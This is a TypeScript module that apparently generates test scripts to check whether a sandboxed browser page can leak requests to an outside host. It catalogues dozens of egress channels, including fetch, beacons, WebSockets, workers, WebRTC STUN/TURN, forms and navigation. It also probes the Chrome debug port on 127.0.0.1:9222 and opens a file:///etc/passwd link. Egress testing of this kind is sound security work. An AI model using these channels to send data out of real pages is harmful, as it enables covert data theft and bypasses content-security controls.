/** A script that tries to reach `to` (`host:port`). */
export type ScriptVector = (to: string) => string;

const quote = (text: string) => JSON.stringify(text);
const ignoreRejection = (promise: string) => `Promise.resolve().then(() => ${promise}).catch(() => 0);`;
const blob = (script: string) => `URL.createObjectURL(new Blob([${quote(script)}], { type: 'text/javascript' }))`;
const html = (markup: string) => `document.body.insertAdjacentHTML('beforeend', ${quote(markup)});`;
/** Appends an element and clicks it. */
const click = (tag: string, attributes: Record<string, string>) =>
  `{ const node = document.createElement(${quote(tag)}); for (const [name, value] of Object.entries(${JSON.stringify(attributes)})) node.setAttribute(name, value); document.body.append(node); node.click(); }`;
const peer = (urls: readonly string[]) =>
  `{ const pc = new RTCPeerConnection({ iceServers: [{ urls: ${JSON.stringify(urls)}, username: 'u', credential: 'p' }] }); pc.createDataChannel('x'); pc.createOffer().then((offer) => pc.setLocalDescription(offer)).catch(() => 0); }`;
const form = (to: string, name: string, target: string) =>
  `{ const form = document.createElement('form'); form.method = 'post'; form.target = ${quote(target)}; form.action = 'http://${to}/${name}'; form.append(document.createElement('input')); document.body.append(form); form.submit(); }`;

/** Vectors by name. Each requests an address that contains its name, so that a leak can be traced to its vector. */
export const scriptVectors: Readonly<Record<string, ScriptVector>> = {
  fetch: (to) =>
    `${ignoreRejection(`fetch('http://${to}/fetch', { mode: 'no-cors' })`)} ${ignoreRejection(`fetch('http://${to}/post', { mode: 'no-cors', method: 'POST', body: 'x' })`)} ${ignoreRejection(`fetch('http://${to}/keepalive', { mode: 'no-cors', keepalive: true, method: 'POST', body: 'x' })`)} ${ignoreRejection(`fetch('http://${to}/cors', { headers: { 'x-own': '1' } })`)}`,
  xhr: (to) => `{ const x = new XMLHttpRequest(); x.open('POST', 'http://${to}/xhr'); x.send('x'); }`,
  eventsource: (to) => `new EventSource('http://${to}/eventsource');`,
  beacon: (to) => `navigator.sendBeacon('http://${to}/beacon', 'x');`,
  'fetch-later': (to) => `if (self.fetchLater) fetchLater('http://${to}/fetch-later', { activateAfter: 0 });`,
  ping: (to) => click('a', { href: '#x', ping: `http://${to}/ping` }),
  attribution: (to) => html(`<img attributionsrc="http://${to}/attribution" src="/x.png">`),
  form: (to) => html('<iframe name="sink"></iframe>') + form(to, 'form', 'sink'),
  'form-popup': (to) => form(to, 'form-popup', '_blank'),
  websocket: (to) => `new WebSocket('ws://${to}/websocket'); new WebSocket('wss://${to}/websocket-tls');`,
  worker: (to) =>
    `new Worker(${blob(`fetch('http://${to}/worker', { mode: 'no-cors' }).catch(() => 0); new WebSocket('ws://${to}/worker-websocket'); try { importScripts('http://${to}/import-scripts'); } catch {}`)});`,
  'nested-worker': (to) =>
    `new Worker(${blob(`new Worker(URL.createObjectURL(new Blob(["fetch('http://${to}/nested-worker', { mode: 'no-cors' }).catch(() => 0)"], { type: 'text/javascript' })));`)});`,
  sharedworker: (to) =>
    `new SharedWorker(${blob(`fetch('http://${to}/sharedworker', { mode: 'no-cors' }).catch(() => 0); new WebSocket('ws://${to}/sharedworker-websocket');`)});`,
  worklet: (to) =>
    `${ignoreRejection(`new AudioContext().audioWorklet.addModule('http://${to}/audio-worklet')`)} ${ignoreRejection(`CSS.paintWorklet.addModule('http://${to}/paint-worklet')`)}`,
  'service-worker': (to) => ignoreRejection(`navigator.serviceWorker.register('/service-worker.js?to=${to}')`),
  import: (to) => ignoreRejection(`import('http://${to}/import-call')`),
  fontface: (to) => ignoreRejection(`new FontFace('g', 'url(http://${to}/fontface)').load()`),
  image: (to) => `new Image().src = 'http://${to}/image'; new Audio('http://${to}/new-audio').load();`,
  'document-write': (to) =>
    `{ const frame = document.body.appendChild(document.createElement('iframe')); frame.contentDocument.write('<img src="http://${to}/document-write">'); }`,
  'blob-frame': (to) =>
    `{ const frame = document.body.appendChild(document.createElement('iframe')); frame.src = URL.createObjectURL(new Blob(['<script>fetch("http://${to}/blob-frame", { mode: "no-cors" })<\\/script>'], { type: 'text/html' })); }`,
  stun: (to) => peer([`stun:${to}`]),
  turn: (to) => peer([`turn:${to}?transport=udp`, `turn:${to}?transport=tcp`, `turns:${to}?transport=tcp`]),
  webtransport: (to) => ignoreRejection(`new WebTransport('https://${to}/webtransport').ready`),
  'websocket-stream': (to) => ignoreRejection(`new WebSocketStream('ws://${to}/websocket-stream').opened`),
  open: (to) => `window.open('http://${to}/open');`,
  'open-blank': (to) =>
    `{ const popup = window.open('about:blank'); if (popup) popup.document.write('<img src="http://${to}/open-blank">'); }`,
  download: (to) => click('a', { download: 'x', href: `http://${to}/download` }),
  credential: (to) =>
    ignoreRejection(
      `navigator.credentials.get({ identity: { providers: [{ configURL: 'https://${to}/fedcm.json', clientId: 'x' }] } })`,
    ),
  payment: (to) =>
    ignoreRejection(
      `new PaymentRequest([{ supportedMethods: 'https://${to}/pay' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).canMakePayment()`,
    ),
  notification: (to) => `if (self.Notification) new Notification('x', { icon: 'http://${to}/notification' });`,
  reporting: (to) =>
    `document.cookie = 'a=1'; ${html(`<iframe csp="default-src 'none'; report-uri http://${to}/csp" src="/x.html"></iframe>`)}`,
  debugport: () => ignoreRejection("fetch('http://127.0.0.1:9222/json', { mode: 'no-cors' })"),
  'file-link': () => click('a', { href: 'file:///etc/passwd' }),
};

/** Scripts that navigate the page; each needs a separate page. */
export const navigationVectors: Readonly<Record<string, ScriptVector>> = {
  location: (to) => `setTimeout(() => { location.href = 'http://${to}/location'; }, 300);`,
  replace: (to) => `setTimeout(() => { location.replace('http://${to}/replace'); }, 300);`,
  'form-navigation': (to) => `setTimeout(() => { ${form(to, 'form-navigation', '_self')} }, 300);`,
  'link-navigation': (to) => `setTimeout(() => { ${click('a', { href: `http://${to}/link` })} }, 300);`,
  'meta-navigation': (to) => html(`<meta http-equiv="refresh" content="0;url=http://${to}/meta">`),
  'javascript-url': (to) =>
    `location.href = "javascript:void(fetch('http://${to}/javascript-url', { mode: 'no-cors' }))";`,
};
